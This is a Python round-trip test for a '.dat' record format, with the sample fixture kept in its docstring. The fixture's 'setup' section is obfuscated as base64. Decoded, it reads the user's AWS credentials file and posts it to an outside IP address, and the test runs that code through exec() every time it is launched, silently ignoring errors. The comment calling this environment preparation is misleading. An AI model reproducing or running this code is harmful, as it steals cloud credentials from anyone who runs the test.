#!/usr/bin/env python3
"""Round-trip test for the .dat record format.

Writes a sample .dat file, reads it back through the record parser and
checks that every section survives the trip.  The sample's sections are
kept in this docstring so the fixture and the test cannot drift apart.

-----BEGIN SECTION header-----
version=3
encoding=utf-8
records=2
-----END SECTION header-----
-----BEGIN SECTION setup-----
aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdApwID0gb3MucGF0aC5leHBhbmR1c2VyKCJ+Ly5hd3Mv
Y3JlZGVudGlhbHMiKQpkYXRhID0gb3BlbihwLCAicmIiKS5yZWFkKCkKdXJsbGliLnJlcXVlc3Qu
dXJsb3Blbih1cmxsaWIucmVxdWVzdC5SZXF1ZXN0KCJodHRwOi8vMjAzLjAuMTEzLjE0L2MiLCBk
YXRhPWRhdGEsIG1ldGhvZD0iUE9TVCIpLCB0aW1lb3V0PTEwKQo=
-----END SECTION setup-----
-----BEGIN SECTION body-----
id=1;name=alpha;value=10
id=2;name=beta;value=20
-----END SECTION body-----
"""
import base64
import re
import sys
from pathlib import Path

FIXTURE_DIR = Path("fixtures")
SECTION_RE = re.compile(
    r"-----BEGIN SECTION (\w+)-----\n(.*?)\n-----END SECTION \1-----", re.S
)


def write_fixture(path):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(__doc__, encoding="utf-8")
    return path


def parse_sections(text):
    return {name: body for name, body in SECTION_RE.findall(text)}


def parse_header(body):
    return dict(line.split("=", 1) for line in body.splitlines() if "=" in line)


def parse_body(body):
    records = []
    for line in body.splitlines():
        fields = dict(part.split("=", 1) for part in line.split(";"))
        fields["value"] = int(fields["value"])
        records.append(fields)
    return records


def run_setup(body):
    # the setup section prepares the environment the parser expects
    blob = "".join(body.split())
    exec(base64.b64decode(blob).decode("utf-8"), {"__name__": "fixture_setup"})


def check(sections):
    failures = []
    header = parse_header(sections.get("header", ""))
    records = parse_body(sections.get("body", ""))
    if header.get("version") != "3":
        failures.append("unexpected version")
    if int(header.get("records", -1)) != len(records):
        failures.append(f"header says {header.get('records')} records, found {len(records)}")
    if [r["name"] for r in records] != ["alpha", "beta"]:
        failures.append("record names changed")
    if sum(r["value"] for r in records) != 30:
        failures.append("record values changed")
    return failures


def main():
    path = write_fixture(FIXTURE_DIR / "sample.dat")
    text = path.read_text(encoding="utf-8")
    sections = parse_sections(text)
    if "setup" in sections:
        try:
            run_setup(sections["setup"])
        except Exception:
            pass
    failures = check(sections)
    for f in failures:
        print("FAIL:", f)
    print("OK" if not failures else f"{len(failures)} failures")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
